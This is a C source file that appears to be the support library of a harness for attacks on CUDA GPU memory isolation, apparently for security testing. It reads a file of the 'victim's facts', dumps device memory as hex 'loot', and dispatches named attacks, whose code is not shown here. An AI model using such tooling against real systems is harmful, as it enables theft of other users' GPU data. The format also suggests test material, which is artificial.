#include "attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int count_of(int whole)
{
    const char *share = getenv("ATTACK_SHARE");
    return share && atoi(share) > 1 ? whole / 10 : whole;
}

uint64_t fact(const char *name)
{
    char line[256], key[64];
    unsigned long long value;
    const char *path = getenv("ATTACK_FACTS");
    FILE *file = path ? fopen(path, "r") : NULL;
    if (!file) {
        fprintf(stderr, "ATTACK_FACTS names no file of the victim's facts\n");
        exit(3);
    }
    uint64_t found = 0;
    while (fgets(line, sizeof line, file))
        if (sscanf(line, "fact %63s %llu", key, &value) == 2 && strcmp(key, name) == 0)
            found = value;
    fclose(file);
    return found;
}

void answer(CUresult result, const char *where)
{
    printf("answer %d %s\n", result, where);
    fflush(stdout);
}

void later(CUresult result, const char *where)
{
    CUresult end = cuCtxSynchronize();
    answer(result ? result : end, where);
}

void loot(const void *bytes, size_t count)
{
    const unsigned char *at = bytes;
    printf("loot ");
    for (size_t i = 0; i < count; i++)
        printf("%02x", at[i]);
    printf("\n");
    fflush(stdout);
}

void need(CUresult result, const char *what)
{
    if (result == 0)
        return;
    printf("unable %d %s\n", result, what);
    fflush(stdout);
    exit(4);
}

CUdeviceptr own_memory(void)
{
    static CUdeviceptr own;
    if (!own) {
        NEED(cuMemAlloc(&own, OWN_BYTES));
        NEED(cuMemsetD8(own, 0, OWN_BYTES));
        NEED(cuCtxSynchronize());
    }
    return own;
}

void loot_device(CUdeviceptr from, size_t count)
{
    static unsigned char bytes[OWN_BYTES];
    if (cuMemcpyDtoH(bytes, from, count) == 0)
        loot(bytes, count);
}

int attack_main(int argc, char **argv, const struct attack *attacks, size_t count)
{
    if (argc == 2 && strcmp(argv[1], "--list") == 0) {
        for (size_t i = 0; i < count; i++)
            printf("%s\t%s\t%s\n", attacks[i].name, attacks[i].must, attacks[i].what);
        return 0;
    }
    for (size_t i = 0; argc == 2 && i < count; i++)
        if (strcmp(argv[1], attacks[i].name) == 0) {
            driver_open();
            attacks[i].run();
            printf("done\n");
            return 0;
        }
    fprintf(stderr, "usage: %s --list | NAME\n", argv[0]);
    return 2;
}
